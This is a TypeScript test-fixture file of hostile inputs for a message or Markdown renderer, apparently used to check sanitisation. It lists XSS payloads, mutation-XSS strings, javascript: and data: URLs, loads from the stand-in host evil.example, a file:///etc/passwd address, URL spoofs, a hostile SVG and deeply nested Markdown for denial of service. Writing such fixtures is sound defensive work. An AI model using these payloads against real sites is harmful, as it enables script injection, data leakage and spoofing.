// What somebody would put into a message to make the page run, load or hide something. Every script sets `__hacked`, and every
// address is one that nobody may ask for.

const RUN = "window.__hacked=1";
const EVIL = "https://evil.example";

/** HTML as text: tags that run, load, move or submit something. */
export const TAGS: readonly string[] = [
  `<script>${RUN}</script>`,
  `<SCRIPT SRC=${EVIL}/a.js></SCRIPT>`,
  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
  `<img src=x onerror=${RUN}>`,
  `<img src="${EVIL}/beacon.gif">`,
  `<img srcset="${EVIL}/a.png 1x" src="data:image/png;base64,x" onload="${RUN}">`,
  `<svg onload="${RUN}"><script>${RUN}</script></svg>`,
  `<svg><foreignObject><body onload="${RUN}"></foreignObject></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><script>${RUN}</script></svg>#x"></svg>`,
  `<svg><animate onbegin="${RUN}" attributeName=x dur=1s></svg>`,
  `<svg><a xlink:href="javascript:${RUN}"><text y=20>x</text></a></svg>`,
  `<math><maction actiontype="statusline#http://x" xlink:href="javascript:${RUN}">x</maction></math>`,
  `<iframe srcdoc="<script>parent.__hacked=1</script>"></iframe>`,
  `<iframe src="javascript:parent.__hacked=1"></iframe>`,
  `<object data="${EVIL}/a.swf"></object><embed src="${EVIL}/b">`,
  `<base href="${EVIL}/">`,
  `<meta http-equiv="refresh" content="0;url=${EVIL}/moved">`,
  `<link rel=stylesheet href="${EVIL}/a.css"><link rel=prefetch href="${EVIL}/p"><link rel=dns-prefetch href="//evil.example">`,
  `<style>@import url(${EVIL}/b.css); body{background:url(${EVIL}/c.png)}</style>`,
  `<div style="background:url(${EVIL}/d.png)" onmouseover="${RUN}">over</div>`,
  `<form action="${EVIL}/f" id=f><input name=a value=b><button form=f formaction="javascript:${RUN}">go</button></form>`,
  `<a href="${EVIL}/ping" ping="${EVIL}/pinged">ping</a>`,
  `<details open ontoggle="${RUN}"><summary>s</summary></details>`,
  `<video><source onerror="${RUN}" src="${EVIL}/v"></video><audio src="${EVIL}/a" autoplay>`,
  `<input autofocus onfocus="${RUN}"><body onload="${RUN}"><marquee onstart="${RUN}">x</marquee>`,
  `<template><script>${RUN}</script></template><noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `<!-- a comment <script>${RUN}</script> -->`,
  `<![CDATA[<script>${RUN}</script>]]>`,
  `<?xml-stylesheet href="${EVIL}/x.xsl"?>`,
  `<portal src="${EVIL}"></portal><frameset onload="${RUN}">`,
  // What browsers turn into something else when they write it down and read it again.
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${RUN}&gt;">`,
  `<svg></p><style><a id="</style><img src=1 onerror=${RUN}>">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${RUN}></style></mglyph></form>`,
  `<noembed><img title="</noembed><img src onerror=${RUN}>"></noembed>`,
  `<x/onclick=${RUN}>click</x><a\u00A0href="javascript:${RUN}">x</a>`,
  `"><img src=x onerror=${RUN}>`,
  `'-${RUN}-'`,
  "${window.__hacked=1}{{constructor.constructor('window.__hacked=1')()}}",
];

/** Addresses that run something, or are not what they look like. */
export const ADDRESSES: readonly string[] = [
  `javascript:${RUN}`,
  `JaVaScRiPt:${RUN}`,
  `java\tscript:${RUN}`,
  `&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;:${RUN}`,
  `javascript&colon;${RUN}`,
  `&Tab;javascript:${RUN}`,
  `\u0001javascript:${RUN}`,
  `javascript://evil.example/%0a${RUN}`,
  `data:text/html,<script>parent.__hacked=1</script>`,
  `data:text/html;base64,PHNjcmlwdD5wYXJlbnQuX19oYWNrZWQ9MTwvc2NyaXB0Pg==`,
  `data:image/svg+xml,<svg onload="window.__hacked=1" xmlns="http://www.w3.org/2000/svg"></svg>`,
  `vbscript:msgbox(1)`,
  `file:///etc/passwd`,
  `blob:${EVIL}/1`,
  `//evil.example/relative`,
  `/v1/threads`,
  `${EVIL}/\u202Egnp.exe`,
  `https://g\u043Eogle.example/\u200B`,
  `https://good.example@evil.example/`,
];

/** A picture that would run, load and show a page if it were a document. */
export const SVG = `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="40" height="40" onload="parent.__hacked=1">
<script>parent.__hacked=1</script><image href="${EVIL}/svg.png"/><use href="${EVIL}/a.svg#x"/>
<foreignObject width="40" height="40"><iframe xmlns="http://www.w3.org/1999/xhtml" src="${EVIL}/frame"/></foreignObject>
<style>@import url(${EVIL}/svg.css);</style><rect width="40" height="40" fill="teal"/></svg>`;

/** Every way in which Markdown makes links and pictures of an address. */
export function linksTo(address: string, name: string): string {
  return [
    `[${name}](${address})`,
    `[${name} in brackets](<${address}>)`,
    `![${name} picture](${address})`,
    `<${address}>`,
    `[${name} by name][${name}]`,
    ``,
    `[${name}]: ${address} "a title"`,
    `[![inner](${address})](${address})`,
  ].join("\n");
}

/** Markdown that was written to take long, or to nest deep. */
export const DEEP: readonly string[] = [
  "> ".repeat(100_000),
  "- ".repeat(100_000),
  "[".repeat(100_000),
  `${"[".repeat(5000)}a${"](b)".repeat(5000)}`,
  `${"*a **b ".repeat(5000)}${" c** d*".repeat(5000)}`,
  `${"|a".repeat(20_000)}|\n${"|-".repeat(20_000)}|\n|b|`,
  `|a|b|c|\n|-|-|-|\n${"|x|y|z|\n".repeat(10_000)}`,
  `\`\`\`xml\n${"<script>".repeat(500)}\n\`\`\``,
];

/** A name in which everything is wrong. */
export const NAME = `"><img src=x onerror=${RUN}>\u202Egnp.exe`;
